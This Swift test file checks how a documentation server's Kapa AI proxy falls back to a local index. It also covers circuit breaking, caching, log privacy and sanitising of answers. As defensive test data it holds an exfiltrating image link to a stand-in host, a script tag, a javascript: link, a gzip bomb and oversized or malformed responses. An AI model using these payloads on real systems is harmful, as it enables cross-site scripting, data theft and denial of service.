internal import CoreMetrics
internal import Foundation
internal import HTTPTypes
internal import HummingbirdTesting
internal import Logging
internal import Synchronization
internal import Testing
internal import TestSupport

@testable internal import Answers
@testable internal import AssistantCore
@testable internal import ServerFoundation
@testable internal import ServerSettings
@testable internal import ServerState

/// Whatever Kapa does, a reader gets an answer with sources, or an honest refusal.
struct KapaFallbackTests {
    private let site: SiteFixture
    private static let question = "How do I set the port of the server?"

    init() throws { site = try SiteFixture() }

    // MARK: Healthy

    @Test(arguments: [true, false])
    func answersFromKapa(isStreaming: Bool) async throws {
        let double = try KapaDouble()
        var kapa = KapaConfiguration(double)
        kapa.usesStreaming = isStreaming
        kapa.integrationID = "00000000-0000-4000-8000-0000000000bb"
        kapa.sourceGroupIDs = ["group-1"]
        try await site.application(allowedHosts: ["docs.example.org"], kapa: kapa).test(.router) { client in
            let response = try await client.post(
                "/api/kapa/query",
                ["query": " \(Self.question) ", "page_url": "https://docs.example.org/guide/?q=secret#top", "client_id": "reader-1"]
            )
            let json = try response.json()
            #expect(json["origin"] as? String == "kapa")
            #expect(json["answered"] as? Bool == true)
            #expect(json["answer"] as? String == "Kapa was asked: \(Self.question) (question 1 of its thread)")
            #expect(json["answer_html"] as? String == "<p>Kapa was asked: \(Self.question) (question 1 of its thread)</p>\n")
            // A stream does not say.
            #expect(json["is_uncertain"] as? Bool == (isStreaming ? nil : false))
            let sources = try #require(json["sources"] as? [[String: Any]])
            try #require(sources.count == 1)
            #expect(sources[0]["title"] as? String == "Guide")
            #expect(sources[0]["heading"] as? String == "Port")
            #expect(sources[0]["url"] as? String == "https://docs.example.org/guide/#port")
        }
        let body = try #require(double.bodies("/chat/").first)
        #expect(body["query"] as? String == Self.question)
        #expect(body["integration_id"] as? String == "00000000-0000-4000-8000-0000000000bb")
        #expect(body["source_group_ids_include"] as? [String] == ["group-1"])
        #expect((body["metadata"] as? [String: String])?["origin_url"] == "https://docs.example.org/guide/")
        let client = try #require((body["user"] as? [String: String])?["unique_client_id"])
        #expect(client.hasPrefix("anon-") && !client.contains("reader-1"))
    }

    /// Every open question of the contract.
    @Test func toleratesEveryReadingOfTheContract() async throws {
        let double = try KapaDouble()
        var kapa = KapaConfiguration(double)
        kapa.cacheLifetime = .zero
        try await site.application(kapa: kapa).test(.router) { client in
            for bits in 0..<32 {
                double.change { contract in
                    contract.sendsSourcesFirst = bits & 1 != 0
                    contract.endsWithSeparator = bits & 2 != 0
                    contract.marksStreamEnd = bits & 4 != 0
                    contract.statesUncertainty = bits & 8 != 0
                    contract.sendsIdentifiers = bits & 16 != 0
                    contract.isUncertain = true
                }
                let json = try await client.ask(Self.question)
                #expect(json["origin"] as? String == "kapa", "bits \(bits)")
                #expect((json["sources"] as? [Any])?.isEmpty == false)
                #expect(json["is_uncertain"] as? Bool == (bits & 24 == 24 ? true : nil))
                #expect(json["answered"] as? Bool == (bits & 24 != 24))
            }
        }
    }

    @Test func hostileAnswersAreRenderedStrictly() async throws {
        var contract = KapaDouble.Contract()
        contract.answer = [
            "See ![x](https://evil.example/?d=secret) <script>alert(1)</script> [bad](https://evil.example/) [js](javascript:x) ",
            "[source](https://docs.example.org/guide/#port) [allowed](https://wiki.example.org/)",
        ]
        let double = try KapaDouble(contract)
        var kapa = KapaConfiguration(double)
        kapa.linkHosts = ["wiki.example.org"]
        try await site.application(kapa: kapa).test(.router) { client in
            let html = try #require(try await client.ask(Self.question)["answer_html"] as? String)
            #expect(
                !html.contains("<img") && !html.contains("<script") && !html.contains("evil.example/\"") && !html.contains("javascript")
            )
            #expect(
                html.matches(of: /href="([^"]*)"/).map { String($0.1) } == [
                    "https://docs.example.org/guide/#port", "https://wiki.example.org/",
                ]
            )
            #expect(html.contains("(docs.example.org)") && html.contains("(wiki.example.org)"))
        }
    }

    @Test func anAnswerWithoutSourcesGetsThoseOfTheIndex() async throws {
        let double = try KapaDouble()
        double.change { $0.sources = [] }
        try await site.application(kapa: KapaConfiguration(double)).test(.router) { client in
            let json = try await client.ask(Self.question)
            #expect(json["origin"] as? String == "kapa")
            #expect(json["answered"] as? Bool == true)
            #expect((json["sources"] as? [[String: Any]])?.first?["url"] as? String == "guide/start.html#port")
            #expect(json["sources_are"] as? String == "nearest")
        }
    }

    // MARK: Faults

    struct Fault: Sendable, CustomTestStringConvertible {
        var testDescription: String
        var steps: [LoopbackServer.Step]
        /// The name of the ``KapaError`` in the metrics and the status.
        var code: String
        var isStreaming = true

        init(_ name: String, _ code: String, isStreaming: Bool = true, _ steps: [LoopbackServer.Step]) {
            testDescription = name
            self.steps = steps
            self.code = code
            self.isStreaming = isStreaming
        }
    }

    private static let record = KapaDouble.text("The first words") + KapaDouble.separator
    private static func cut(_ text: String, droppingLast count: Int) -> LoopbackServer.Step {
        .sendBytes(KapaDouble.chunk(Array(Array(text.utf8).dropLast(count))))
    }

    private static let faults: [Fault] = [
        Fault("silent after accept", "slow", [.hold]),
        Fault("head, then silence", "slow", KapaDouble.stream([.hold])),
        Fault("first byte too late", "slow", [.waitForRelease]),
        Fault("stalls in mid-stream", "truncated", KapaDouble.stream([KapaDouble.chunk(record), .hold])),
        Fault("hangs up at once", "truncated", [.close]),
        Fault("hangs up after the head", "truncated", KapaDouble.stream([.close])),
        Fault("hangs up in mid-stream", "truncated", KapaDouble.stream([KapaDouble.chunk(record), .close])),
        Fault("cut in mid-character", "truncated", KapaDouble.stream([cut(KapaDouble.text("ä") + "ä", droppingLast: 1), .close])),
        Fault("cut in mid-JSON", "truncated", KapaDouble.stream([cut(KapaDouble.text("half"), droppingLast: 9), .close])),
        Fault(
            "ended in mid-JSON",
            "invalid-response",
            KapaDouble.stream([cut(KapaDouble.text("half"), droppingLast: 9), .send(KapaDouble.lastChunk)])
        ),
        Fault(
            "ended in mid-character",
            "invalid-response",
            KapaDouble.stream([KapaDouble.chunk(record), .sendBytes(KapaDouble.chunk([0xE2, 0x90])), .send(KapaDouble.lastChunk)])
        ),
        Fault("status 400", "rejected", KapaDouble.reply(400, #"{"query":["bad"]}"#)),
        Fault("status 400 of a setting", "misconfigured", KapaDouble.reply(400, #"{"integration_id":["Must be a valid UUID."]}"#)),
        Fault("status 402", "quota-exceeded", KapaDouble.reply(402, #"{"detail":"Quota exceeded."}"#)),
        Fault("status 401", "unauthorized", KapaDouble.reply(401, #"{"detail":"Invalid API key."}"#)),
        Fault("status 403", "unauthorized", KapaDouble.reply(403, #"{"detail":"Not allowed."}"#)),
        Fault("status 403 of a rate limit", "rate-limited", KapaDouble.reply(403, #"{"detail":"Rate limit exceeded."}"#)),
        Fault("status 404", "not-found", KapaDouble.reply(404, #"{"detail":"Not found."}"#)),
        Fault("status 413", "rejected", KapaDouble.reply(413, "")),
        Fault("status 429", "rate-limited", KapaDouble.reply(429, #"{"message":"Slow down"}"#, headers: "Retry-After: 120\r\n")),
        Fault("status 500", "server-error", KapaDouble.reply(500, "<html>oops</html>")),
        Fault("status 502", "server-error", KapaDouble.reply(502, "")),
        Fault("status 503", "server-error", KapaDouble.reply(503, "", headers: "Retry-After: soon\r\n")),
        Fault("a redirect", "unreachable", KapaDouble.reply(307, "", headers: "Location: http://127.0.0.1:1/\r\n")),
        Fault("invalid JSON", "invalid-response", KapaDouble.stream([KapaDouble.chunk("{no json}␞"), .send(KapaDouble.lastChunk)])),
        Fault(
            "wrong types",
            "invalid-response",
            KapaDouble.stream([KapaDouble.chunk(#"{"chunk":{"type":"partial_answer","content":{"text":[1]}}}␞"#), .hold])
        ),
        Fault(
            "HTML with status 200",
            "invalid-response",
            KapaDouble.reply(200, "<!doctype html><h1>Sign in</h1>", headers: "Content-Type: text/html\r\n")
        ),
        Fault(
            "no text",
            "invalid-response",
            KapaDouble.stream([KapaDouble.chunk(KapaDouble.record("identifiers", "{}") + "␞"), .send(KapaDouble.lastChunk)])
        ),
        Fault(
            "white space only",
            "invalid-response",
            KapaDouble.stream([KapaDouble.chunk(KapaDouble.text(" \n") + "␞"), .send(KapaDouble.lastChunk)])
        ),
        Fault("an empty body", "invalid-response", KapaDouble.reply(200, "")),
        Fault(
            "an error record before any text",
            "truncated",
            KapaDouble.stream([KapaDouble.chunk(KapaDouble.text(" ") + "␞" + KapaDouble.record("error", #"{"reason":"x"}"#) + "␞"), .hold])
        ),
        Fault(
            "50 MB without a record",
            "invalid-response",
            KapaDouble.stream([.pour(KapaDouble.chunk([UInt8](repeating: 0x20, count: 1 << 20)), times: 50)])
        ),
        Fault(
            "50 MB of text",
            "invalid-response",
            KapaDouble.stream([
                .pour(KapaDouble.chunk(Array((KapaDouble.text(String(repeating: "a", count: 60_000)) + "␞").utf8)), times: 850)
            ])
        ),
        Fault("a compressed body", "invalid-response", gzipBomb),
        Fault(
            "deep JSON",
            "invalid-response",
            KapaDouble.stream([KapaDouble.chunk(String(repeating: #"{"a":"#, count: 100_000) + "␞"), .hold])
        ),
        Fault("not HTTP", "invalid-response", [.send("220 mail.example ESMTP\r\n"), .close]),
        Fault(
            "headers without end",
            "invalid-response",
            [.send("HTTP/1.1 200 OK\r\n"), .pour(Array("X-Long: \(String(repeating: "x", count: 1000))\r\n".utf8), times: 1000)]
        ),
        Fault("not streamed: HTML", "invalid-response", isStreaming: false, KapaDouble.reply(200, "<h1>Sign in</h1>")),
        Fault("not streamed: wrong types", "invalid-response", isStreaming: false, KapaDouble.reply(200, #"{"answer":{"text":"x"}}"#)),
        Fault("not streamed: no answer", "invalid-response", isStreaming: false, KapaDouble.reply(200, #"{"relevant_sources":[]}"#)),
        Fault("not streamed: silent", "slow", isStreaming: false, [.hold]),
    ]

    /// 50 MB of zeros in 50 KB. It is never inflated.
    private static let gzipBomb: [LoopbackServer.Step] = {
        let process = Process()
        process.executableURL = URL(filePath: "/bin/sh")
        process.arguments = ["-c", "head -c 52428800 /dev/zero | gzip -9"]
        let pipe = Pipe()
        process.standardOutput = pipe
        guard (try? process.run()) != nil, let bytes = try? pipe.fileHandleForReading.readToEnd() else { return [] }
        process.waitUntilExit()
        return [
            .send("HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: \(bytes.count)\r\n\r\n"), .sendBytes(Array(bytes)),
        ]
    }()

    /// As one object and as events: the same answer.
    @Test(arguments: faults)
    func answersFromTheIndexWhen(fault: Fault) async throws {
        #expect(!fault.steps.isEmpty)
        let double = try KapaDouble()
        double.failChats(fault.steps)
        var kapa = KapaConfiguration(double, patience: .milliseconds(fault.code == "slow" ? 150 : 10_000))
        kapa.usesStreaming = fault.isStreaming
        kapa.stallDeadline = .milliseconds(fault.code == "truncated" ? 300 : fault.isStreaming ? 10_000 : 150)
        let log = CapturedLog()
        let logger = Logger(label: "test") { _ in log }
        try await site.application(kapa: kapa, logger: logger).test(.router) { client in
            let json = try await client.ask(Self.question)
            #expect(json["origin"] as? String == "local")
            #expect(json["answered"] as? Bool == true)
            #expect((json["answer"] as? String)?.contains("--port") == true)
            #expect((json["sources"] as? [[String: Any]])?.first?["url"] as? String == "guide/start.html#port")
            let status = try await client.execute(uri: "/api/kapa/status", method: .get).json()
            #expect((status["last_failure"] as? [String: Any])?["code"] as? String == fault.code)

            let events = try await client.events("Which xylophone wrench tunes the port?")
            #expect(events.first?.name == "sources")
            #expect(events.last?.name == "done")
            #expect(events.last?.data["origin"] as? String == "local")
        }
        #expect(!log.text.contains(KapaDouble.key))
        #expect(!log.text.contains("xylophone"))
    }

    @Test(arguments: ["refused", "unknown name", "another protocol"])
    func answersFromTheIndexWithoutAConnection(kind: String) async throws {
        let url =
            switch kind {
            case "refused": try LoopbackServer.refusingURL()
            case "unknown name": "http://kapa.invalid"
            default: "ftp://127.0.0.1"
            }
        try await site.application(kapa: KapaConfiguration(url: url, patience: .seconds(5))).test(.router) { client in
            let json = try await client.ask(Self.question)
            #expect(json["origin"] as? String == "local")
            #expect(json["answered"] as? Bool == true)
        }
    }

    @Test func nothingIsSentWhenKapaIsSwitchedOff() async throws {
        let double = try KapaDouble()
        var kapa = KapaConfiguration(double)
        kapa.isEnabled = false
        try await site.application(kapa: kapa).test(.router) { client in
            #expect(try await client.ask(Self.question)["origin"] as? String == "local")
            let status = try await client.execute(uri: "/api/kapa/status", method: .get).json()
            #expect(status["configured"] as? Bool == true)
            #expect(status["enabled"] as? Bool == false)
            #expect(status["mode"] as? String == "local")
        }
        #expect(double.requests("/").isEmpty)
    }

    @Test func statusNeedsNoKapa() async throws {
        let status = try await site.send(.get, "/api/kapa/status").json()
        #expect(status["configured"] as? Bool == false)
        #expect(status["mode"] as? String == "local")
    }

    // MARK: Breaker, coalescing, cache

    @Test func leavesKapaAloneAfterFailures() async throws {
        let double = try KapaDouble()
        double.failChats(KapaDouble.reply(500, ""))
        try await site.application(kapa: KapaConfiguration(double)).test(.router) { client in
            for number in 0..<12 { #expect(try await client.ask("\(Self.question) \(number)")["origin"] as? String == "local") }
            let status = try await client.execute(uri: "/api/kapa/status", method: .get).json()
            #expect(status["breaker"] as? String == "open")
            #expect(status["mode"] as? String == "local")
            #expect((1...30).contains(status["retry_after_seconds"] as? Int ?? 0))
        }
        #expect(double.requests("/chat/").count == 5)
    }

    @Test(arguments: [
        (400, "check KAPA_INTEGRATION_ID"), (401, "check KAPA_API_KEY and KAPA_PROJECT_ID"),
        (402, "the questions of the Kapa plan are used up"),
        (403, "check KAPA_API_KEY and KAPA_PROJECT_ID"), (404, "check KAPA_API_KEY and KAPA_PROJECT_ID"), (429, "Kapa's circuit is open"),
    ])
    func oneRefusalIsEnough(status: Int, logged: String) async throws {
        let double = try KapaDouble()
        double.failChats(
            KapaDouble.reply(
                status,
                status == 400 ? #"{"integration_id":["unknown"]}"# : "{}",
                headers: status == 429 ? "Retry-After: 60\r\n" : ""
            )
        )
        let log = CapturedLog()
        try await site.application(kapa: KapaConfiguration(double), logger: Logger(label: "test") { _ in log }).test(.router) { client in
            for number in 0..<3 {
                let json = try await client.ask("\(Self.question) \(number)")
                #expect(json["origin"] as? String == "local")
            }
        }
        #expect(double.requests("/chat/").count == 1)
        #expect(log.text.contains(logged))
        // Why, for how long, and until when.
        let line = try #require(log.text.split(separator: "\n").first { $0.contains("Kapa's circuit is open") })
        #expect(line.contains("\"kapa.reason\": status \(status)"))
        #expect(line.contains(/"kapa.pause.ms": [0-9]+[,\]]/))
        #expect(line.contains(/"kapa.retry_at": 20[0-9-]+T[0-9:]+Z/))
    }

    /// A path alone tells Kapa nothing.
    @Test func aPageWithoutItsSiteIsNotSent() async throws {
        let double = try KapaDouble()
        try await site.application(kapa: KapaConfiguration(double)).test(.router) { client in
            for page in ["/guide/start.html", "http://localhost/guide/start.html"] {
                _ = try await client.post("/api/kapa/query", ["query": "\(Self.question) \(page)", "page_url": page])
            }
        }
        let urls = double.bodies("/chat/").map { ($0["metadata"] as? [String: String])?["origin_url"] }
        #expect(urls == [nil, "http://localhost/guide/start.html"])
    }

    /// A server may be told to stop while it starts.
    @Test func aStopWhileKapaIsLookedUpIsNoFault() async throws {
        let log = CapturedLog()
        let logger = Logger(label: "test") { _ in log }
        let double = try KapaDouble()
        let gateway = KapaGateway(KapaConfiguration(double), metrics: KapaMetrics(NOOPMetricsHandler.instance), logger: logger)
        let forwarder = FeedbackForwarder(
            kapa: gateway,
            outbox: try StateStore(StateConfiguration(), logger: logger),
            metrics: KapaMetrics(NOOPMetricsHandler.instance),
            logger: logger
        )
        let run = Task {
            withUnsafeCurrentTask { $0?.cancel() }
            try await forwarder.run()
        }
        try await run.value
        #expect(log.text == "")
    }

    @Test func readsBothFormsOfRetryAfter() throws {
        let now = Date(timeIntervalSince1970: 1_795_428_000)
        #expect(KapaError.pause("120", now: now) == .seconds(120))
        #expect(KapaError.pause("Mon, 23 Nov 2026 10:15:00 GMT", now: now) == .seconds(900))
        #expect(KapaError.pause("Mon, 23 Nov 2026 09:00:00 GMT", now: now) == .seconds(1))
        #expect(KapaError.pause("-5", now: now) == .seconds(1))
        #expect(KapaError.pause("soon", now: now) == nil)
    }

    @Test func aRecoveredKapaIsFoundByAProbe() async throws {
        let double = try KapaDouble()
        double.failChats(KapaDouble.reply(503, ""))
        let clock = TestClock()
        let gateway = KapaGateway(
            KapaConfiguration(double),
            metrics: KapaMetrics(NOOPMetricsHandler.instance),
            logger: Logger(label: "test") { _ in SwiftLogNoOpLogHandler() },
            now: { clock.now }
        )
        func ask(_ text: String) async -> String {
            do throws(KapaError) {
                _ = try await gateway.answer(KapaQuestion(text: text, clientID: "anon-1")) { _ in }
                return "ok"
            } catch { return error.name }
        }
        for number in 0..<5 { #expect(await ask("\(number)") == "server-error") }
        #expect(await ask("more") == "circuit-open")
        double.failChats(nil)
        clock.advance(by: .seconds(29))
        #expect(await ask("more") == "circuit-open")
        clock.advance(by: .seconds(1))
        #expect(gateway.isAvailable)
        #expect(await ask("more") == "ok")
        #expect(gateway.status.breaker == .closed)
        #expect(gateway.status.lastSuccess != nil)
    }

    @Test func identicalQuestionsGoToKapaOnce() async throws {
        let double = try KapaDouble()
        double.failChats(
            KapaDouble.stream([
                KapaDouble.chunk(KapaDouble.text("one ")), .waitForRelease, KapaDouble.chunk("␞" + KapaDouble.text("two")),
                .send(KapaDouble.lastChunk),
            ])
        )
        let gateway = KapaGateway(
            KapaConfiguration(double),
            metrics: KapaMetrics(NOOPMetricsHandler.instance),
            logger: Logger(label: "test") { _ in SwiftLogNoOpLogHandler() }
        )
        let (joined, joining) = AsyncStream<Void>.makeStream()
        let texts = try await withThrowingTaskGroup(of: String.self) { group in
            for _ in 0..<100 {
                group.addTask {
                    joining.yield()
                    return try await gateway.answer(KapaQuestion(text: Self.question, clientID: "anon-1")) { _ in }.text
                }
            }
            var count = 0
            for await _ in joined {
                count += 1
                if count == 100 { break }
            }
            // Those who come after the release are served from the cache, or from the call that is still at work.
            double.release()
            return try await group.reduce(into: []) { $0.append($1) }
        }
        #expect(texts == Array(repeating: "one two", count: 100))
        #expect(double.requests("/chat/").count == 1)
    }

    @Test func anAnswerServesTheSameQuestionAgain() async throws {
        let double = try KapaDouble()
        try await site.application(kapa: KapaConfiguration(double)).test(.router) { client in
            let first = try await client.ask(Self.question)
            let second = try await client.ask("  How do I set  the port of the server?")
            #expect(second["answer"] as? String == first["answer"] as? String)
            #expect(second["origin"] as? String == "kapa")
            #expect(second["thread_id"] as? String != first["thread_id"] as? String)
            #expect(second["question_answer_id"] as? String != first["question_answer_id"] as? String)
            // Both may follow up without hearing of each other.
            _ = try await client.ask("And then?", thread: second["thread_id"] as? String)
        }
        #expect(double.requests("/chat/").count == 2)
        #expect(double.requests("/threads/").isEmpty)
        #expect((double.bodies("/chat/").last?["query"] as? String)?.contains("set  the port") == true)
    }
}

/// A clock that goes on when a test says so.
private final class TestClock: Sendable {
    private let offset = Mutex(Duration.zero)
    private let start = ContinuousClock.now

    var now: ContinuousClock.Instant { start + offset.withLock { $0 } }

    func advance(by duration: Duration) { offset.withLock { $0 += duration } }
}
